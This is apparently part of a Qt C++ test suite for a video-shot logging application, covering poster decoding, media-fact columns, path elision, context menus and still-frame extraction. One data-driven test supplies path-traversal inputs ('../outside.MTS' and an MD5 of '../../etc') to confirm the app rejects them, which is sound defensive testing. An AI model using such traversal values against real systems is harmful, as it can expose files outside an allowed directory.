            rows << QStringLiteral("(%1, 'raw/A/%2.MTS', '%3', '%4')").arg(harbour).arg(i).arg(md5One, sha1One);
        QVERIFY(bulk.exec("INSERT INTO shots (project, filename, MD5, SHA1) VALUES " + rows.join(",")));
        Browser b = open(harbour);
        QSignalSpy notes(b.model(), &ShotTableModel::notice);
        b.grid->selectAll();
        QCOMPARE(b.info->bulkSelection().size(), 6000);
        auto *takes = b.field<QLineEdit>("takesEdit");
        takes->setFocus();
        QTest::keyClicks(takes, "x");
        QTest::keyClick(takes, Qt::Key_Return);
        QVERIFY(settle(60000));
        QVERIFY(bulk.exec("SELECT COUNT(*) FROM shots WHERE takes = 'x'") && bulk.next());
        QCOMPARE(bulk.value(0).toInt(), 6000);
        QVERIFY(notes.size() >= 1);
        QCOMPARE(notes.last().first().toString(), QStringLiteral("6000 shots saved"));
        QCOMPARE(b.model()->data(b.cell(5999, "takes")).toString(), QStringLiteral("x"));
        QVERIFY(!b.model()->edits()->hasPending());
        QCOMPARE(historyOf(1).size(), 1);
    }

    // Regression: 30 poster rows holding a 5760x5760 JPEG froze the window
    // for 15 s when scrolled into view, as they were decoded on the GUI
    // thread, and each such shot once more in the form. Posters are now
    // decoded on the fetcher's thread; one larger than a poster is refused
    // from its header, never decoded, and the others still show.
    void aHugePosterIsRefusedAndTheOthersStillShow()
    {
        QSqlQuery media(other);
        QVERIFY(media.exec("DELETE FROM shot_media") && media.exec("DELETE FROM shot_posters"));
        const QString hugeMd5(32, 'd');
        const int normal = addShot(harbour, "raw/A/1.MTS"); // neither clip is on this computer
        const int huge = addShot(harbour, "raw/A/2.MTS", {}, hugeMd5);
        auto jpegOf = [](const QImage &image) {
            QByteArray jpeg;
            QBuffer buffer(&jpeg);
            buffer.open(QIODevice::WriteOnly);
            image.save(&buffer, "JPG");
            return jpeg;
        };
        QImage small(320, 180, QImage::Format_RGB32);
        small.fill(QColor(30, 120, 200));
        QImage large(5760, 5760, QImage::Format_Grayscale8);
        large.fill(128);
        media.prepare("INSERT INTO shot_posters (MD5, SHA1, image, width, height) VALUES (?, ?, ?, ?, ?)");
        for (const auto &[md5, jpeg, size] : {std::tuple(md5One, jpegOf(small), small.size()),
                                               std::tuple(hugeMd5, jpegOf(large), large.size())}) {
            QVERIFY(!jpeg.isEmpty());
            media.addBindValue(md5);
            media.addBindValue(sha1One);
            media.addBindValue(jpeg);
            media.addBindValue(size.width());
            media.addBindValue(size.height());
            QVERIFY2(media.exec(), qPrintable(media.lastError().text()));
        }

        // Every picture the grid's fetcher makes, and on which thread.
        struct Decoded
        {
            QMutex mutex;
            QList<QThread *> threads;
        };
        auto decoded = std::make_shared<Decoded>();
        Browser b = open(harbour, [decoded](GridWidget *grid) {
            connect(grid->model, &ShotTableModel::columnsReady, grid, [grid, decoded]() {
                PosterFetcher *posters = grid->posters();
                if (!posters || posters->property("recorded").toBool())
                    return;
                posters->setProperty("recorded", true);
                const PosterFetcher::Decoder decoder = posters->decoder();
                posters->setDecoder([decoder, decoded](const QByteArray &bytes) {
                    {
                        const QMutexLocker lock(&decoded->mutex);
                        decoded->threads << QThread::currentThread();
                    }
                    return decoder(bytes);
                });
            });
        });
        QVERIFY(b.grid->posters());
        const int normalRow = b.model()->rowOfId(normal);
        const int hugeRow = b.model()->rowOfId(huge);
        QTRY_VERIFY_WITH_TIMEOUT(!b.grid->posterOfRow(normalRow).isNull(), 10000);
        QTRY_VERIFY_WITH_TIMEOUT(b.grid->posters()->hasNoPoster(hugeMd5.toLatin1(), sha1One.toLatin1()), 10000);
        QVERIFY(b.grid->posterOfRow(hugeRow).isNull());
        QCOMPARE(b.grid->posters()->refusal(hugeMd5.toLatin1(), sha1One.toLatin1()),
                 QStringLiteral("its picture is 5760x5760 pixels, larger than a poster"));

        // The form says why it shows no poster.
        b.click(hugeRow, "scene");
        QVERIFY(settle());
        QTRY_VERIFY(b.info->posterView()->isVisible());
        QCOMPARE(b.info->posterView()->text(),
                 QStringLiteral("No poster: its picture is 5760x5760 pixels, larger than a poster."));
        QVERIFY(!b.info->frameView()->isVisible());
        // And shows the normal one, from what the grid's fetcher made.
        b.click(normalRow, "scene");
        QVERIFY(settle());
        QTRY_VERIFY(!b.info->posterView()->pixmap().isNull());
        QVERIFY(b.info->posterView()->isVisible());
        QVERIFY(b.info->posterView()->text().isEmpty());
        QVERIFY(QFileInfo::exists(saveScreenshot(b.window, "grid-huge-poster")));

        const QMutexLocker lock(&decoded->mutex);
        QCOMPARE(decoded->threads.size(), 2);
        for (QThread *thread : std::as_const(decoded->threads))
            QVERIFY(thread != QThread::currentThread());
    }

    // What the sync read from the clips shows in read-only columns, sorted
    // and found by the server; the poster in the grid, and in the form when
    // the clip is not on this computer, with the facts and the length as
    // the duration's hint.
    void mediaFactsShowInTheGridAndTheForm()
    {
        QSqlQuery media(other);
        QVERIFY(media.exec("DELETE FROM shot_media") && media.exec("DELETE FROM shot_posters"));
        const int clip = addShot(harbour, "raw/A/1.MTS"); // not on this computer
        const QString otherMd5(32, 'c');
        const int text = addShot(harbour, "raw/A/notes.MTS", {}, otherMd5);
        QVERIFY2(media.exec(QStringLiteral("INSERT INTO shot_media (MD5, SHA1, duration_ms, width, height, frame_rate, "
                                           "scan, video_codec, audio_codec, audio_channels, audio_rate, recorded_at, "
                                           "recorded_utc_offset, start_timecode) VALUES ('%1', '%2', 12345, 1920, "
                                           "1080, '30000/1001', 'interlaced', 'h264', 'ac3', 2, 48000, "
                                           "'2024-03-17 14:05:09', -300, '01:00:00:00')")
                                .arg(md5One, sha1One)),
                 qPrintable(media.lastError().text()));
        QVERIFY(media.exec(QStringLiteral("INSERT INTO shot_media (MD5, SHA1, problem) VALUES ('%1', '%2', 'not a video')")
                               .arg(otherMd5, sha1One)));
        QImage frame(320, 180, QImage::Format_RGB32);
        frame.fill(QColor(30, 120, 200));
        QByteArray jpeg;
        QBuffer buffer(&jpeg);
        buffer.open(QIODevice::WriteOnly);
        QVERIFY(frame.save(&buffer, "JPG"));
        media.prepare("INSERT INTO shot_posters (MD5, SHA1, image, width, height) VALUES (?, ?, ?, 320, 180)");
        media.addBindValue(md5One);
        media.addBindValue(sha1One);
        media.addBindValue(jpeg);
        QVERIFY2(media.exec(), qPrintable(media.lastError().text()));

        Browser b = open(harbour);
        QVERIFY(b.model()->hasMedia());
        const int row = b.model()->rowOfId(clip);
        auto shown = [&b](int row, const char *column) { return b.model()->data(b.cell(row, column)).toString(); };
        QCOMPARE(shown(row, "recorded"), QStringLiteral("2024-03-17 14:05:09 -05:00"));
        QCOMPARE(shown(row, "tc_in"), QStringLiteral("01:00:00:00"));
        QCOMPARE(shown(row, "length"), QStringLiteral("0:12.345"));
        QCOMPARE(shown(row, "format"), QStringLiteral("1920x1080i 29.97"));
        QCOMPARE(shown(b.model()->rowOfId(text), "format"), QStringLiteral("not a video"));
        QCOMPARE(b.model()->headerData(b.model()->fieldIndex("tc_in"), Qt::Horizontal).toString(), QStringLiteral("TC In"));
        QVERIFY(!(b.model()->flags(b.cell(row, "length")) & Qt::ItemIsEditable));

        // The poster, in the grid's row.
        QTRY_VERIFY_WITH_TIMEOUT(!b.grid->posterOfRow(b.model()->rowOfId(clip)).isNull(), 10000);
        QVERIFY(b.grid->posterOfRow(b.model()->rowOfId(text)).isNull());
        // And in the form, beside the facts and the measured length.
        b.click(b.model()->rowOfId(clip), "scene");
        QVERIFY(settle());
        QTRY_VERIFY(b.info->posterView()->isVisible());
        QVERIFY(!b.info->frameView()->isVisible());
        QVERIFY2(b.info->factsView()->text().contains("1920x1080i 29.97")
                     && b.info->factsView()->text().contains("TC 01:00:00:00"),
                 qPrintable(b.info->factsView()->text()));
        QCOMPARE(b.field<QLineEdit>("durationEdit")->placeholderText(), QStringLiteral("12.345"));
        QCOMPARE(b.field<QLineEdit>("durationEdit")->text(), QString());
        QVERIFY(QFileInfo::exists(saveScreenshot(b.window, "grid-posters")));
        QVERIFY(stored(clip, "duration").isNull()); // a hint, never written

        // Sorted by the server by what a column stands for; found by the
        // find field.
        b.grid->sortByColumn(b.model()->fieldIndex("length"), Qt::DescendingOrder);
        QVERIFY(settle());
        QCOMPARE(b.model()->idOfRow(0).toInt(), clip);
        b.grid->sortByColumn(b.model()->fieldIndex("length"), Qt::AscendingOrder);
        QVERIFY(settle());
        QCOMPARE(b.model()->idOfRow(0).toInt(), text);
        for (const QString &word : {QStringLiteral("01:00:00"), QStringLiteral("2024-03-17"), QStringLiteral("1920x1080")}) {
            b.grid->setFind(word, false);
            QVERIFY(settle());
            QCOMPARE(b.model()->rowCount(), 1);
            QCOMPARE(b.model()->idOfRow(0).toInt(), clip);
        }
        b.grid->setFind("video", false);
        QVERIFY(settle());
        QCOMPARE(b.model()->rowCount(), 1);
        QCOMPARE(b.model()->idOfRow(0).toInt(), text);
    }

    // A clip's path too long for its cell keeps the clip's file name: the
    // folders next to it go first, then Qt's middle elision.
    void aLongPathKeepsTheClipsName_data()
    {
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("room"); // a text as wide as the cell
        QTest::addColumn<QString>("shown");
        const QString day = QStringLiteral("raw/Day1/CardA/00007.MTS");
        QTest::newRow("fits") << day << day << day;
        QTest::newRow("the card goes first") << day << QStringLiteral("raw/Day1/…/00007.MTS")
                                             << QStringLiteral("raw/Day1/…/00007.MTS");
        QTest::newRow("then the day") << day << QStringLiteral("raw/…/00007.MTSx") << QStringLiteral("raw/…/00007.MTS");
        QTest::newRow("then every folder") << day << QStringLiteral("…/00007.MTS") << QStringLiteral("…/00007.MTS");
        QTest::newRow("deep folders, one ellipsis")
            << QStringLiteral("raw/Day1/CardA/PRIVATE/AVCHD/BDMV/STREAM/00007.MTS")
            << QStringLiteral("raw/Day1/CardA/PRIVATE/…/00007.MTS") << QStringLiteral("raw/Day1/CardA/PRIVATE/…/00007.MTS");
        QTest::newRow("no room for the name: the middle goes") << day << QStringLiteral("00007.M") << QString();
        QTest::newRow("a name without folders") << QStringLiteral("00007.MTS") << QStringLiteral("0000") << QString();
    }

    void aLongPathKeepsTheClipsName()
    {
        QFETCH(QString, path);
        QFETCH(QString, room);
        QFETCH(QString, shown);
        const QFontMetrics metrics(QApplication::font());
        const int width = metrics.horizontalAdvance(room);
        if (shown.isEmpty())
            shown = metrics.elidedText(path, Qt::ElideMiddle, width);
        QCOMPARE(ShotCellDelegate::elidePath(path, metrics, width), shown);
        QVERIFY(metrics.horizontalAdvance(shown) <= width);
    }

    // Regression: in the layout for logging every filename read
    // "raw/Day1/CardA..." with the clip's number cut off, and Recorded lost
    // its minutes: each column was cut to a third of the grid's width before
    // the window was laid out, and the style cut text at the right. The
    // path keeps its file name, the whole of it in the tooltip; the media
    // facts show whole.
    void theGridShowsTheClipsNameAndWholeFacts()
    {
        QSqlQuery media(other);
        QVERIFY(media.exec("DELETE FROM shot_media") && media.exec("DELETE FROM shot_posters"));
        const QString path = QStringLiteral("raw/Day1/CardA/PRIVATE/AVCHD/BDMV/STREAM/00007.MTS");
        const int clip = addShot(harbour, path);
        QVERIFY2(media.exec(QStringLiteral("INSERT INTO shot_media (MD5, SHA1, duration_ms, width, height, frame_rate, "
                                           "scan, recorded_at, recorded_utc_offset, start_timecode) VALUES ('%1', '%2', "
                                           "12345, 1920, 1080, '30000/1001', 'interlaced', '2024-03-17 14:05:09', -300, "
                                           "'01:00:00:00')")
                                .arg(md5One, sha1One)),
                 qPrintable(media.lastError().text()));
        Browser b = open(harbour);
        QVERIFY(b.model()->hasMedia());
        const int row = b.model()->rowOfId(clip);
        QCOMPARE(b.grid->cellText(b.cell(row, "filename")), QStringLiteral("raw/Day1/…/00007.MTS"));
        for (const char *column : {"recorded", "tc_in", "length", "format"})
            QCOMPARE(b.grid->cellText(b.cell(row, column)), b.model()->data(b.cell(row, column)).toString());
        QCOMPARE(b.grid->cellText(b.cell(row, "recorded")), QStringLiteral("2024-03-17 14:05:09 -05:00"));

        // The whole path in the tooltip.
        const QPoint at = b.grid->visualRect(b.cell(row, "filename")).center();
        QHelpEvent help(QEvent::ToolTip, at, b.grid->viewport()->mapToGlobal(at));
        QCoreApplication::sendEvent(b.grid->viewport(), &help);
        QTRY_COMPARE(QToolTip::text(), path);
        QToolTip::hideText();
        QVERIFY(QFileInfo::exists(saveScreenshot(b.window, "grid-long-path")));
    }

    // Regression: a right-click on a header, held a moment, toggled the
    // Poster column: the menu opened under the pointer on the press, and
    // the release, which the menu then received, ticked the column under
    // it. Only a click made in the menu ticks a column.
    void aRightClickOnAHeaderChangesNoColumn()
    {
        addShot(harbour, "raw/A/1.MTS");
        Browser b = open(harbour);
        QVERIFY(b.model()->hasMedia());
        QHeaderView *header = b.grid->horizontalHeader();
        const int poster = b.model()->fieldIndex("poster");
        QCOMPARE(header->visualIndex(poster), 0);
        auto hidden = [&b]() {
            QList<bool> columns;
            for (int column = 0; column < b.model()->columnCount(); ++column)
                columns << b.grid->isColumnHidden(column);
            return columns;
        };
        const QList<bool> before = hidden();
        QVERIFY(!before.at(poster));

        QList<bool> afterRelease;
        QList<bool> afterClick;
        bool menuOpened = false;
        QTimer::singleShot(0, b.grid, [&]() {
            auto *menu = qobject_cast<QMenu *>(QApplication::activePopupWidget());
            if (!menu)
                return;
            menuOpened = true;
            QAction *posterAction = nullptr;
            for (QAction *action : menu->actions()) {
                if (action->text() == QLatin1String("Poster"))
                    posterAction = action;
            }
            if (posterAction) {
                const QPoint onPoster = menu->actionGeometry(posterAction).center();
                // The right button that opened the menu comes up over Poster.
                QTest::mouseRelease(menu, Qt::RightButton, {}, onPoster);
                afterRelease = hidden();
                // A click in the menu still ticks the column, and the menu
                // stays open for more.
                QTest::mouseClick(menu, Qt::LeftButton, {}, onPoster);
                afterClick = hidden();
            }
            menu->close();
        });
        // Pressed near the header's top edge; on X11 the press opens the
        // menu, with the button still down.
        const QPoint at(header->sectionViewportPosition(poster) + 5, 2);
        QTest::mousePress(header->viewport(), Qt::RightButton, {}, at);
        QContextMenuEvent opened(QContextMenuEvent::Mouse, at, header->viewport()->mapToGlobal(at));
        QCoreApplication::sendEvent(header->viewport(), &opened);
        QVERIFY(menuOpened);
        QCOMPARE(afterRelease, before);
        QVERIFY(afterClick.value(poster));
        QCOMPARE(hidden(), afterClick);
    }

    // Regression: maximising the window showed rows without posters until
    // a scroll: posters were asked for on a scroll or a read only. Any
    // change of the rows in view asks for theirs.
    void aResizeRequestsThePostersOfTheRowsItShows()
    {
        QSqlQuery media(other);
        QVERIFY(media.exec("DELETE FROM shot_media") && media.exec("DELETE FROM shot_posters"));
        QImage frame(64, 36, QImage::Format_RGB32);
        frame.fill(QColor(30, 120, 200));
        QByteArray jpeg;
        QBuffer buffer(&jpeg);
        buffer.open(QIODevice::WriteOnly);
        QVERIFY(frame.save(&buffer, "JPG"));
        const int count = 300;
        QStringList shots;
        for (int i = 0; i < count; ++i)
            shots << QStringLiteral("(%1, 'raw/A/%2.MTS', '%3', '%4')").arg(harbour).arg(i).arg(i, 32, 10, QLatin1Char('0')).arg(sha1One);
        QVERIFY2(media.exec("INSERT INTO shots (project, filename, MD5, SHA1) VALUES " + shots.join(',')),
                 qPrintable(media.lastError().text()));
        QVERIFY(media.exec("INSERT INTO shot_posters (MD5, SHA1, image, width, height) SELECT MD5, SHA1, X'"
                           + QString::fromLatin1(jpeg.toHex()) + "', 64, 36 FROM shots"));

        Browser b = open(harbour);
        QVERIFY(b.grid->posters());
        QCOMPARE(b.model()->rowCount(), count);
        // A short window, scrolled half way down.
        b.window->resize(1000, 300);
        QTRY_VERIFY(b.grid->viewport()->height() < 200);
        const int top = count / 2;
        b.grid->scrollTo(b.cell(top, "id"), QAbstractItemView::PositionAtTop);
        QTRY_VERIFY_WITH_TIMEOUT(!b.grid->posterOfRow(top).isNull(), 10000);
        // The rows asked for: those in view, and as many again below.
        const int shown = b.grid->rowAt(b.grid->viewport()->height() - 1);
        QVERIFY(shown >= top);
        const int asked = shown + (shown - top + 1);

        b.window->resize(1000, 1000);
        QTRY_VERIFY(b.grid->rowAt(b.grid->viewport()->height() - 1) > asked + 1);
        const int last = b.grid->rowAt(b.grid->viewport()->height() - 1);
        QCOMPARE(b.grid->rowAt(0), top);
        QTRY_VERIFY_WITH_TIMEOUT(!b.grid->posterOfRow(last).isNull(), 10000);
        QVERIFY(!b.grid->posterOfRow(asked + 1).isNull());
    }

    void stillFrameIsTakenOnceAndCachedByMd5()
    {
        const QString clip = root.filePath("raw/CardA/00001.MTS");
        QVERIFY(makeClip(clip));
        const QString md5 = fileMd5(clip);
        addShot(harbour, "raw/CardA/00001.MTS", {}, md5);
        // A copy of the clip elsewhere, already gone from this computer.
        addShot(harbour, "raw/Copies/00001.MTS", {}, md5);
        Browser b = open(harbour);
        StillFrameView *view = b.info->frameView();
        QTRY_VERIFY_WITH_TIMEOUT(!view->pixmap().isNull(), 30000);
        const QString cached = stillFramePath(md5);
        QVERIFY(QFileInfo(cached).isFile());
        QVERIFY(cached.startsWith(QStandardPaths::writableLocation(QStandardPaths::CacheLocation)));
        QVERIFY(!QImage(cached).isNull());
        const QDateTime taken = QFileInfo(cached).lastModified();

        QVERIFY(QFile::remove(clip));
        b.click(1, "scene");
        QVERIFY(!view->isExtracting());
        QVERIFY(!view->pixmap().isNull());
        QCOMPARE(QFileInfo(cached).lastModified(), taken);
        QVERIFY(QDir(QFileInfo(cached).absolutePath()).entryList(QDir::Files).size() == 1);
    }

    void theLatestShotGetsItsFrameWhenTheUserMovesOnQuickly()
    {
        QStringList md5s;
        int seconds = 1;
        for (const QString name : {"raw/A/1.MTS", "raw/A/2.MTS"}) {
            QVERIFY(makeClip(root.filePath(name), seconds++));
            md5s << fileMd5(root.filePath(name));
            addShot(harbour, name, {}, md5s.last());
        }
        QVERIFY(md5s[0] != md5s[1]);
        Browser b = open(harbour);
        StillFrameView *view = b.info->frameView();
        b.click(1, "scene"); // most likely while the first frame is still being taken
        QTRY_VERIFY_WITH_TIMEOUT(!view->isExtracting() && !view->pixmap().isNull(), 30000);
        QCOMPARE(view->currentFilename(), QStringLiteral("raw/A/2.MTS"));
        QVERIFY(QFileInfo(stillFramePath(md5s[1])).isFile());
    }

    // Regression: the frame grab ran a blocking process that the form's
    // destructor waited for, so an encoder hanging on a clip (a share that
    // stopped answering) froze the window when the form went away (File >
    // Change Project) for up to two minutes.
    void aHungFrameGrabNeverHoldsTheWindow()
    {
        const QString clip = root.filePath("raw/A/1.MTS");
        QVERIFY(QDir().mkpath(QFileInfo(clip).absolutePath()));
        QFile file(clip);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("a clip the encoder hangs on");
        file.close();
        addShot(harbour, "raw/A/1.MTS");
        // The encoder of the start folder: one that hangs and ignores the
        // request to end.
        QTemporaryDir start;
        QVERIFY(QDir().mkpath(start.filePath("ffmpeg/bin")));
        QVERIFY(QFile::link(TAVELO_FAKE_ENCODER_PATH, start.filePath("ffmpeg/bin/ffmpeg")));
        QDir startDir(start.path());
        ClientState::instance()->startDir = &startDir;
        const QString log = start.filePath("encoder.log");
        qputenv("TAVELO_FAKE_ENCODER", "stubborn");
        qputenv("TAVELO_FAKE_ENCODER_LOG", log.toLocal8Bit());
        auto restore = qScopeGuard([]() {
            qunsetenv("TAVELO_FAKE_ENCODER");
            qunsetenv("TAVELO_FAKE_ENCODER_LOG");
            ClientState::instance()->startDir = nullptr;
        });
        Browser b = open(harbour);
        QTRY_VERIFY(b.info->frameView()->isExtracting());
        QTRY_VERIFY(QFileInfo(log).size() > 0);
        QFile runs(log);
        QVERIFY(runs.open(QIODevice::ReadOnly));
        const qint64 pid = runs.readLine().split('\t').first().toLongLong();
        QVERIFY(pid > 0);

        QElapsedTimer clock;
        clock.start();
        delete b.window; // the form and its frame go, as Change Project does
        browser = Browser();
        QVERIFY2(clock.elapsed() < 1000, qPrintable(QString::number(clock.elapsed())));
        bool ticked = false;
        QTimer::singleShot(0, [&ticked]() { ticked = true; });
        QTRY_VERIFY_WITH_TIMEOUT(ticked, 1000);
        // The encoder was killed, not left running.
        QTRY_VERIFY_WITH_TIMEOUT(::kill(pid_t(pid), 0) != 0, 5000);
    }

    void aDamagedCachedFrameIsDroppedAndTakenAgain()
    {
        addShot(harbour, "raw/A/gone.MTS");
        const QString cached = stillFramePath(md5One);
        QVERIFY(QDir().mkpath(QFileInfo(cached).absolutePath()));
        QFile file(cached);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("not a picture");
        file.close();
        Browser b = open(harbour);
        QVERIFY2(b.info->frameView()->text().contains("damaged"), qPrintable(b.info->frameView()->text()));
        QVERIFY(!QFileInfo::exists(cached));
    }

    void missingFramesGetAPlaceholderSayingWhy_data()
    {
        QTest::addColumn<QString>("filename");
        QTest::addColumn<QString>("md5");
        QTest::addColumn<bool>("makeTheClip");
        QTest::addColumn<bool>("hideEncoder");
        QTest::addColumn<QString>("says");
        QTest::newRow("clip not on this computer") << "raw/A/missing.MTS" << md5One << false << false
                                                   << "is not on this computer";
        QTest::newRow("path leading out of the local root") << "../outside.MTS" << md5One << false
                                                            << false << "not a clip path";
        QTest::newRow("digest that is no digest") << "raw/A/clip.MTS" << "../../etc" << true << false
                                                  << "no valid MD5";
        QTest::newRow("encoder missing") << "raw/A/clip.MTS" << md5One << true << true
                                         << "was not found";
    }

    void missingFramesGetAPlaceholderSayingWhy()
    {
        QFETCH(QString, filename);
        QFETCH(QString, md5);
        QFETCH(bool, makeTheClip);
        QFETCH(bool, hideEncoder);
        QFETCH(QString, says);
        if (makeTheClip) {
            QFile file(root.filePath(filename));
            QVERIFY(QDir().mkpath(QFileInfo(file).absolutePath()));
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write("not really a clip");
        }
        addShot(harbour, filename, {}, md5);
        const QByteArray path = qgetenv("PATH");
        QTemporaryDir nowhere;
        QDir startDir(nowhere.path());
        if (hideEncoder) {
            qputenv("PATH", nowhere.path().toLocal8Bit());
            ClientState::instance()->startDir = &startDir;
        }
        Browser b = open(harbour);
        qputenv("PATH", path);
        ClientState::instance()->startDir = nullptr;
        const QString text = b.info->frameView()->text();
        QVERIFY2(text.contains(says), qPrintable(text));
        QVERIFY(b.info->frameView()->pixmap().isNull());
        QVERIFY(!b.info->frameView()->isExtracting());
    }

    void openClipAsksTheDesktopToPlayTheClip()
    {
        const QString clip = root.filePath("raw/A/1.MTS");
        QVERIFY(QDir().mkpath(QFileInfo(clip).absolutePath()));
        QFile file(clip);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.close();
        addShot(harbour, "raw/A/1.MTS");
        addShot(harbour, "raw/A/gone.MTS");
        Browser b = open(harbour);

        QTest::mouseDClick(b.info->frameView(), Qt::LeftButton);
        QCOMPARE(catcher.urls, QList<QUrl>({QUrl::fromLocalFile(QFileInfo(clip).absoluteFilePath())}));

        // The context menu of a row offers the same.
        catcher.urls.clear();
        QSignalSpy messages(b.grid, &GridWidget::message);
        auto chooseOpenClip = [&b]() {
            QTimer::singleShot(0, b.grid, []() {
                auto *menu = qobject_cast<QMenu *>(QApplication::activePopupWidget());
                if (!menu)
                    return;
                for (QAction *action : menu->actions()) {
                    if (action->text() == QLatin1String("Open Clip"))
                        menu->setActiveAction(action);
                }
                QTest::keyClick(menu, Qt::Key_Return);
            });
        };
        for (int row : {0, 1}) {
            const QPoint at = b.grid->visualRect(b.cell(row, "scene")).center();
            chooseOpenClip();
            QContextMenuEvent event(QContextMenuEvent::Mouse, at, b.grid->viewport()->mapToGlobal(at));
            QApplication::sendEvent(b.grid->viewport(), &event);
        }
        QCOMPARE(catcher.urls, QList<QUrl>({QUrl::fromLocalFile(QFileInfo(clip).absoluteFilePath())}));
        QCOMPARE(messages.size(), 1);
        QVERIFY(messages.first().first().toString().contains("not on this computer"));
    }
};

QTEST_MAIN(TestShots)
#include "tst_shots.moc"
